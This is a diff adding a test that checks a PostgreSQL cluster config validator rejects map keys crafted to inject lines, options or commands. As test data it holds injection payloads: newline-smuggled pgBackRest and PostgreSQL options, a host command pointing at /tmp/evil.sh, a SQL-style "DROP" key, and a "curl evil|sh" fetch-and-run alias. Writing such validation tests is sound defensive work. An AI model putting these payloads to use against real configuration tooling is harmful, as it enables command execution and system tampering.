@@ -254,6 +254,33 @@ describe('values that would add a line to a config file', () => {
     expect(check(ns('/pg\u00a0x')).errors).toEqual([]);
   });
 
+  it('refuses map keys that would add a line, an option or a command: pgbackrest_repo, pg_parameters, node_aliases, sysctl', () => {
+    const { errors } = check(`all:
+  children:
+    pg-test:
+      hosts: { 10.10.10.11: { pg_seq: 1, pg_role: primary } }
+      vars:
+        pg_cluster: pg-test
+        pgbackrest_repo: { local: { "path\\n[global]\\nrepo1-host-cmd": /tmp/evil.sh, retention_full: 2 }, "a b": {} }
+        pg_parameters: { "work_mem = 1\\nlisten_addresses": "*" }
+        pg_users: [ { name: u, parameters: { "x'; DROP": 1 } } ]
+        node_aliases: { "x; curl evil|sh": ls }
+        node_sysctl_params: { "vm.swappiness\\nkernel.x": 1 }
+        pg_rto_plan: { "a\\nb": { ttl: 1, loop: 1, retry: 1, primary_start_timeout: 1, safety_margin: 1 } }
+  vars: { admin_ip: 10.10.10.10 }
+`);
+    const vars = 'all.children.pg-test.vars.';
+    expect(errors.map((e) => [e.context.path?.replace(vars, ''), e.context.line, e.message, e.expected])).toEqual([
+      ['pgbackrest_repo', 7, 'unexpected field "a b"', 'a mapping whose keys are repository names'],
+      ['pgbackrest_repo.local', 7, 'unexpected field "path\\n[global]\\nrepo1-host-cmd"', 'a mapping whose keys are pgBackRest option names of lowercase letters, digits, _ and - (repo1-<name> with _ as -)'],
+      ['pg_parameters', 8, 'unexpected field "work_mem = 1\\nlisten_addresses"', 'a mapping whose keys are PostgreSQL parameter names'],
+      ['pg_users[0].parameters', 9, 'unexpected field "x\'; DROP"', 'a mapping whose keys are PostgreSQL parameter names'],
+      ['node_aliases', 10, 'unexpected field "x; curl evil|sh"', 'a mapping whose keys are alias names (letters, digits and _ . : + @ % -)'],
+      ['node_sysctl_params', 11, 'unexpected field "vm.swappiness\\nkernel.x"', 'a mapping whose keys are sysctl keys such as vm.swappiness'],
+      ['pg_rto_plan', 12, 'unexpected field "a\\nb"', 'a mapping whose keys are plan names of letters, digits, _ and -'],
+    ]);
+  });
+
   it('does not show a secret that breaks the line rule', () => {
     const { errors } = check(ns('/pg\u2028x'));
     const e = errors.find((x) => x.context.path === 'all.children.pg-test.vars.patroni_password');
